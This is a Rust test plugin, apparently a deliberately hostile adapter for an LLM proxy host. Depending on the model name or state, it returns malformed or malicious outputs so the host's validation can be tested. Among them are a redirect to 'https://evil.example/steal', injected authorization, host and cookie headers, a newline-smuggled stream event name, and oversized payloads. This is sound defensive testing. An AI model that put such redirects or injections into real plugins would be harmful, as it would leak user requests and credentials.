//! An adapter that does to its host whatever the model's name says; any other model is prepared well.

use weighbridge_plugin::adapter::{
    BodyPlan, ClientRequest, ClientResponse, Edit, Event, EventFilter, EventOut, Fact, Header, Plan, Quantity, StreamEnd, StreamStep, UpstreamRequest,
    UpstreamResponse, UsageReading, View,
};
use weighbridge_plugin::{Adapter, Decimal, PluginError, register_adapter};

/// Its configuration may misbehave as well.
pub struct Hostile(String);

register_adapter!(Hostile);

impl Adapter for Hostile {
    fn configure(config: &str) -> Result<Self, PluginError> {
        Ok(Self(config.to_owned()))
    }
    fn plans(&self) -> Vec<Plan> {
        let good = Plan { dialect: "acme.chat".into(), stream_events: Some(EventFilter::containing(["x"])), ..Plan::default() };
        if self.0.contains("no plans") {
            vec![]
        } else if self.0.contains("two plans") {
            vec![good.clone(), good]
        } else if self.0.contains("peek") {
            vec![Plan { request_headers: vec!["authorization".into()], ..good }]
        } else if self.0.contains("bad pointer") {
            vec![Plan { request_view: View::Fields(vec!["model".into()]), ..good }]
        } else if self.0.contains("real dialect") {
            vec![Plan { dialect: "openai.chat".into(), stream_events: None, ..good }]
        } else {
            vec![good]
        }
    }
    fn prepare(&self, request: ClientRequest) -> Result<UpstreamRequest, PluginError> {
        let good = UpstreamRequest { path_and_query: "/chat".into(), ..UpstreamRequest::default() };
        let with_header = |name: &str| UpstreamRequest { headers: vec![Header::new(name, "x")], ..good.clone() };
        let with_edit = |edit| UpstreamRequest { body: BodyPlan::Edits(vec![edit]), ..good.clone() };
        Ok(match request.model.as_str() {
            "absolute" => UpstreamRequest { path_and_query: "https://evil.example/steal".into(), ..good },
            "method" => UpstreamRequest { method: "PUT".into(), ..good },
            "credential" => with_header("authorization"),
            "host" => with_header("host"),
            "bad-header" => with_header("a b"),
            "bad-json" => with_edit(Edit::set("/model", "{oops")),
            "bad-pointer" => with_edit(Edit::remove("model")),
            "root" => with_edit(Edit::set("", "{}")),
            "state" => UpstreamRequest { state: vec![0; 5_000], ..good },
            "huge" => UpstreamRequest { body: BodyPlan::Edits(aliased()), ..good },
            "trap" => {
                #[cfg(target_arch = "wasm32")]
                std::arch::wasm32::unreachable();
                #[cfg(not(target_arch = "wasm32"))]
                unreachable!();
            }
            _ => good,
        })
    }
    fn read_usage(&self, dialect: &str, _facts: &[Fact]) -> Result<UsageReading, PluginError> {
        let one = |meter: &str, value: i64| Quantity::new(meter, Decimal::from(value));
        let with = |quantities| UsageReading { quantities, ..UsageReading::default() };
        Ok(match dialect {
            "negative" => with(vec![one("input", -5)]),
            "twice" => with(vec![one("input", 1), one("input", 2)]),
            "bad-meter" => with(vec![one("Bad Meter", 1)]),
            "absurd" => with(vec![one("input", i64::MAX)]),
            "doubt" => UsageReading { doubts: vec!["Not Snake".into()], ..UsageReading::default() },
            "extra" => UsageReading { extra: vec![("small".into(), vec![one("output", -1)])], ..UsageReading::default() },
            _ => with(vec![one("input", 5)]),
        })
    }
    fn read_response(&self, state: &[u8], _response: UpstreamResponse) -> Result<ClientResponse, PluginError> {
        Ok(match state {
            b"status" => ClientResponse { status: 42, ..ClientResponse::default() },
            b"cookie" => ClientResponse { headers: vec![Header::new("set-cookie", "x")], ..ClientResponse::default() },
            _ => ClientResponse::default(),
        })
    }
    fn on_events(&self, state: &[u8], events: &[Event]) -> Result<StreamStep, PluginError> {
        let keep = |count| StreamStep { state: state.to_vec(), events: vec![EventOut::Keep; count] };
        Ok(match state {
            b"one-more" => keep(events.len() + 1),
            b"none" => keep(0),
            b"name" => {
                let event = Event { name: Some("a\ndata: b".into()), data: Vec::new() };
                StreamStep { state: Vec::new(), events: events.iter().map(|_| EventOut::Replace(vec![event.clone()])).collect() }
            }
            _ => keep(events.len()),
        })
    }
    fn on_end(&self, _state: &[u8], _end: StreamEnd) -> Result<Vec<Event>, PluginError> {
        Ok(Vec::new())
    }
}

/// More than the host takes, though each part is small.
fn aliased() -> Vec<Edit> {
    (0..900).map(|at| Edit::set(format!("/a{at}"), format!("\"{}\"", "x".repeat(9_000)))).collect()
}
